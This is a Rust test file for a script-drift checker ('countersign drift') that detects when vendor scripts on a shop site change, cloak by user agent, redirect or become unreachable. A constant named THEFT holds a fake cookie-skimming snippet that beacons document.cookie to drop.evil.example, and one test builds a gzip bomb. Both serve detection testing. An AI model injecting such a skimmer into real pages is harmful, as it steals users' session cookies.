//! `countersign drift`, by the binary.

use std::fs;
use std::io::{Read, Write};
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::Value;

use super::shop::{CHAT, drift, script, send, serving, shop};
use crate::policy::commands::{run, stderr, stdout};
use crate::policy::vendor::Vendor;
use crate::support::{Certificates, H2Upstream, whole};

const THEFT: &str = "window.chat={open:function(){navigator.sendBeacon('https://drop.evil.example/',\
                     document.cookie)}};";

/// Exit code and what was said of the script, for a vendor.
fn looked(vendor: &Vendor, tier: &str, more: &[&str]) -> (Option<i32>, String) {
    let output = drift(&shop(&vendor.url("/chat.js"), tier), more);
    (output.status.code(), stdout(&output))
}

#[test]
fn a_vendor_that_serves_what_was_approved_has_not_drifted() {
    let vendor = serving(CHAT);
    let (code, said) = looked(&vendor, "pin", &[]);
    assert_eq!(code, Some(0), "{said}");
    assert!(said.starts_with("shop/chat  same\n") && said.ends_with("1 looked at, 0 drifted\n"), "{said}");
    let requests = vendor.requests();
    let any = |text: &str| requests.iter().any(|head| head.to_lowercase().contains(text));
    for text in
        ["user-agent: countersign/", "iphone", "referer: https://shop.example/", "cookie: ", "identity"]
    {
        assert!(any(text), "no vantage has {text}: {requests:#?}");
    }
    assert!(!requests.iter().all(|head| head.to_lowercase().contains("referer:")));
}

#[test]
fn changed_bytes_are_told_with_what_they_newly_reach_and_kept_for_review() {
    let vendor = serving(THEFT);
    let folder = shop(&vendor.url("/chat.js"), "pin");
    let output = drift(&folder, &["--keep", "kept", "--json"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let json: Value = serde_json::from_slice(&output.stdout).unwrap();
    let chat = &json["scripts"][0];
    assert_eq!((&chat["drift"], &chat["severity"]), (&"changed".into(), &"high".into()), "{json:#}");
    assert!(chat["because"][0].as_str().unwrap().contains("as skimmers do"), "{json:#}");
    let newly = chat["changes"][0]["newly_reached"].as_array().unwrap();
    assert!(newly.iter().any(|item| item["thing"] == "https://drop.evil.example"), "{json:#}");
    let kept = folder.join(chat["kept"][0].as_str().unwrap());
    assert_eq!(fs::read_to_string(&kept).unwrap(), THEFT);
    // What it says to do works as it stands, but for the reason.
    let way_out = chat["what_to_do"].as_str().unwrap();
    assert!(
        way_out.starts_with("countersign approve chat --site shop --file kept/shop/chat/sha384-"),
        "{way_out}"
    );
    let before = folder.read("policies/shop.lock");
    let text = drift(&folder, &[]);
    assert!(stdout(&text).contains("NEW names hosts: https://drop.evil.example"), "{}", stdout(&text));
    assert_eq!(folder.read("policies/shop.lock"), before, "looking approves nothing");

    let approve =
        ["approve", "chat", "--site", "shop", "--file", kept.to_str().unwrap(), "--because", "x", "--yes"];
    assert_eq!(run(&folder, &approve, "").status.code(), Some(0));
    assert_eq!(drift(&folder, &[]).status.code(), Some(0));
}

#[test]
fn other_bytes_for_a_phone_are_found() {
    let vendor = Vendor::serving(|head, stream| {
        script(stream, if head.contains("iPhone") { THEFT } else { CHAT });
    });
    let (code, said) = looked(&vendor, "mirror", &[]);
    assert_eq!(code, Some(1));
    assert!(said.contains("shop/chat  cloaked, high"), "{said}");
    assert!(said.contains("safari-iphone: other bytes"), "{said}");
    assert!(said.contains("NEW cookies: reads document.cookie"), "{said}");
}

#[test]
fn other_bytes_by_chance_are_found_though_a_second_pass_may_not_see_them() {
    let count = AtomicUsize::new(0);
    let vendor = Vendor::serving(move |_, stream| {
        // Once in the first pass, never in the second.
        script(stream, if count.fetch_add(1, Ordering::SeqCst) == 4 { THEFT } else { CHAT });
    });
    let (code, said) = looked(&vendor, "pin", &[]);
    assert_eq!(code, Some(1));
    assert!(said.contains("shop/chat  cloaked, high"), "{said}");
}

#[test]
fn a_release_that_goes_out_meanwhile_is_a_change_not_a_cloak() {
    let count = AtomicUsize::new(0);
    let vendor = Vendor::serving(move |_, stream| {
        script(stream, if count.fetch_add(1, Ordering::SeqCst) < 3 { CHAT } else { "window.chat={};" });
    });
    let (code, said) = looked(&vendor, "pin", &[]);
    assert_eq!(code, Some(1));
    assert!(said.contains("shop/chat  changed, low"), "{said}");
}

#[test]
fn what_is_refused_to_some_and_given_to_others_is_cloaked() {
    let vendor = Vendor::serving(|head, stream| {
        if head.contains("countersign/") {
            send(stream, "404 Not Found", "");
        } else {
            script(stream, CHAT);
        }
    });
    let (code, said) = looked(&vendor, "pin", &[]);
    assert!(code == Some(1) && said.contains("shop/chat  cloaked"), "{said}");
}

#[test]
fn a_script_that_is_gone_is_told_also_where_a_page_takes_its_place() {
    for head in ["404 Not Found", "410 Gone", "200 OK\r\ncontent-type: text/html"] {
        let vendor = Vendor::serving(move |_, stream| send(stream, head, "<p>nothing here"));
        let (code, said) = looked(&vendor, "pin", &[]);
        assert!(code == Some(1) && said.contains("shop/chat  gone, medium"), "{head}: {said}");
    }
}

#[test]
fn a_redirect_to_another_host_is_told_and_can_be_tolerated() {
    let vendor = Vendor::serving(|head, stream| {
        let host =
            head.to_lowercase().lines().find_map(|l| l.strip_prefix("host: ").map(str::to_owned)).unwrap();
        if host.starts_with("127") {
            let there = host.replace("127.0.0.1", "localhost");
            let to =
                format!("302 Found\r\naccess-control-allow-origin: *\r\nlocation: http://{there}/chat.js");
            send(stream, &to, "");
        } else {
            script(stream, CHAT);
        }
    });
    let (code, said) = looked(&vendor, "pin", &[]);
    assert!(code == Some(1) && said.contains("shop/chat  redirected, low"), "{said}");
    assert!(said.contains("the approved bytes") && said.contains("from http://localhost:"), "{said}");
    assert_eq!(looked(&vendor, "pin", &["--tolerate", "redirected"]).0, Some(0));
}

#[test]
fn redirects_without_end_are_not_followed() {
    let vendor = Vendor::answering(|path| (format!("302 Found\r\nlocation: {path}x"), Vec::new()));
    let (code, said) = looked(&vendor, "pin", &[]);
    assert!(code == Some(1) && said.contains("shop/chat  redirected"), "{said}");
}

#[test]
fn lost_cors_matters_to_pinned_scripts_only() {
    let vendor = Vendor::serving(|_, stream| send(stream, "200 OK\r\ncontent-type: text/javascript", CHAT));
    let (code, said) = looked(&vendor, "pin", &[]);
    assert!(code == Some(1) && said.contains("shop/chat  cors-lost, medium"), "{said}");
    assert_eq!(looked(&vendor, "mirror", &[]).0, Some(0));
}

#[test]
fn what_gives_no_answer_is_a_finding_never_no_change() {
    let vendors = [
        (Vendor::serving(|_, stream| drop(stream.read(&mut [0]))), "no head has come"),
        (Vendor::serving(|_, stream| send(stream, "503 Service Unavailable", "")), "answered 503"),
        (
            Vendor::serving(|_, stream| send(stream, "304 Not Modified", "")),
            "304 to a request without conditions",
        ),
        (Vendor::serving(|_, _| {}), "could not fetch"),
    ];
    for (vendor, why) in vendors {
        let folder = shop(&vendor.url("/chat.js"), "pin");
        let timeout = if why == "no head has come" { "1" } else { "60" };
        let output = run(&folder, &["drift", "--allow-private", "--timeout", timeout], "");
        let said = stdout(&output);
        assert_eq!(output.status.code(), Some(1), "{why}: {said}");
        assert!(said.contains("shop/chat  unreachable, medium") && said.contains(why), "{why}: {said}");
    }
}

#[test]
fn what_is_too_long_to_be_read_is_a_change_for_now() {
    let mut coded = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    coded.write_all(&vec![b' '; 11 << 20]).unwrap();
    let bomb = coded.finish().unwrap();
    let vendor = Vendor::answering(move |_| {
        ("200 OK\r\ncontent-type: text/javascript\r\ncontent-encoding: gzip".to_owned(), bomb.clone())
    });
    let (code, said) = looked(&vendor, "mirror", &[]);
    assert!(code == Some(1) && said.contains("shop/chat  changed, high"), "{said}");
    assert!(said.contains("more than"), "{said}");
}

#[test]
fn one_vantage_without_an_answer_is_enough_to_know_nothing() {
    let vendor = Vendor::serving(|head, stream| {
        if !head.contains("Firefox") {
            script(stream, CHAT);
        }
    });
    let (code, said) = looked(&vendor, "pin", &[]);
    assert!(code == Some(1) && said.contains("shop/chat  unreachable"), "{said}");
}

#[test]
fn a_private_address_is_not_asked_unless_it_is_meant() {
    let vendor = serving(CHAT);
    let output = run(&shop(&vendor.url("/chat.js"), "pin"), &["drift"], "");
    assert_eq!(output.status.code(), Some(1));
    assert!(stdout(&output).contains("--allow-private"), "{}", stdout(&output));
    assert_eq!(vendor.requests(), [""; 0]);
}

#[test]
fn a_script_of_the_site_itself_is_asked_for_at_its_application() {
    let application = serving(CHAT);
    let folder = shop("/assets/chat.js", "pin");
    let upstream = application.url("");
    let output = run(&folder, &["drift", "--upstream", &upstream], "");
    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
    let request = application.requests()[0].to_lowercase();
    assert!(
        request.starts_with("get /assets/chat.js ") && request.contains("host: shop.example"),
        "{request}"
    );
    // The policy's own upstream, where nobody listens.
    let output = run(&folder, &["drift", "--timeout", "5"], "");
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
}

#[test]
fn an_evergreen_script_is_looked_at_too() {
    let nobody = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let folder = crate::policy::folder::Folder::empty();
    let policy = format!(
        "hosts = [\"shop.example\"]\nupstreams = [\"http://127.0.0.1:3000\"]\n[[script]]\nid = \"cards\"\n\
         url = \"https://{nobody}/cards.js\"\ntier = \"evergreen\"\nwhy = \"Cards\"\n\
         justification = \"No copies\"\nexpires = 2098-12-31\n"
    );
    folder.write("policies/shop.toml", policy);
    let approved = run(&folder, &["approve", "cards", "--because", "x", "--yes"], "");
    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));
    let output = drift(&folder, &[]);
    assert!(stdout(&output).contains("shop/cards  unreachable"), "{}", stdout(&output));
}

#[test]
fn what_can_not_be_looked_at_is_told_and_refused_where_it_is_asked_for() {
    let folder = shop("https://cdn.example/chat.js", "pin");
    let policy = folder.read("policies/shop.toml");
    let pattern = policy.replace("url = \"https://cdn.example/", "url-pattern = \"https://cdn.example/:v/");
    folder.write("policies/shop.toml", pattern);
    let output = drift(&folder, &[]);
    assert_eq!(output.status.code(), Some(0));
    assert!(stdout(&output).contains("0 looked at, 0 drifted, 1 not looked at"), "{}", stdout(&output));
    let output = drift(&folder, &["--script", "chat"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("a `url-pattern` stands for many URLs"), "{}", stderr(&output));
    let output = drift(&folder, &["--script", "chta"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
}

#[test]
fn policies_that_are_not_in_order_can_not_be_looked_at() {
    let folder = shop("https://cdn.example/chat.js", "pin");
    folder.write("policies/shop.toml", "modus = 1\n");
    let output = drift(&folder, &[]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("shop.toml:1:1"), "{}", stderr(&output));
    assert_eq!(run(&folder, &["drift", "nowhere"], "").status.code(), Some(2));
}

#[test]
fn every_application_of_a_site_is_looked_at() {
    let (right, wrong) = (serving(CHAT), serving(THEFT));
    let folder = shop("/assets/chat.js", "pin");
    let policy = folder.read("policies/shop.toml");
    let several = |first: &Vendor, second: &Vendor| {
        let upstreams = format!("[\"{}\", \"{}\"]", first.url(""), second.url(""));
        folder.write("policies/shop.toml", policy.replace("[\"http://127.0.0.1:3000\"]", &upstreams));
    };
    several(&right, &wrong);
    let output = drift(&folder, &[]);
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
    assert!(stdout(&output).contains("cloaked"), "{}", stdout(&output));
    assert!(!right.requests().is_empty() && !wrong.requests().is_empty());
    let other = serving(CHAT);
    several(&right, &other);
    let output = drift(&folder, &[]);
    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_application_is_reached_as_the_proxy_reaches_it_and_a_vendor_is_not() {
    let (server, ours) = (Certificates::make(), Certificates::self_signed("clientAuth", 2));
    let application = H2Upstream::demanding(&server.files(), Some(&ours.ca()), &["http/1.1"], |_| async {
        http::Response::builder().header("content-type", "text/javascript").body(whole(CHAT)).unwrap()
    })
    .await;
    let url = format!("https://localhost:{}", application.address.port());
    let settings = format!(
        "upstream-ca = \"{}\"\nupstream-cert = \"{}\"\nupstream-key = \"{}\"\n",
        server.ca().display(),
        ours.files().certificate.display(),
        ours.files().key.display()
    );
    let looked = tokio::task::spawn_blocking(move || {
        let own = shop("/assets/chat.js", "pin");
        own.write("countersign.toml", &settings);
        let own = run(&own, &["drift", "--config", "countersign.toml", "--upstream", &url], "");
        let vendors = shop(&format!("{url}/chat.js"), "pin");
        vendors.write("countersign.toml", &settings);
        (own, drift(&vendors, &["--config", "countersign.toml"]))
    });
    let (own, vendors) = looked.await.unwrap();
    assert_eq!(own.status.code(), Some(0), "{}", stdout(&own));
    assert_eq!(vendors.status.code(), Some(1), "{}", stdout(&vendors));
    assert!(
        stdout(&vendors).contains("certificate"),
        "its CA is not one of the system's: {}",
        stdout(&vendors)
    );
}
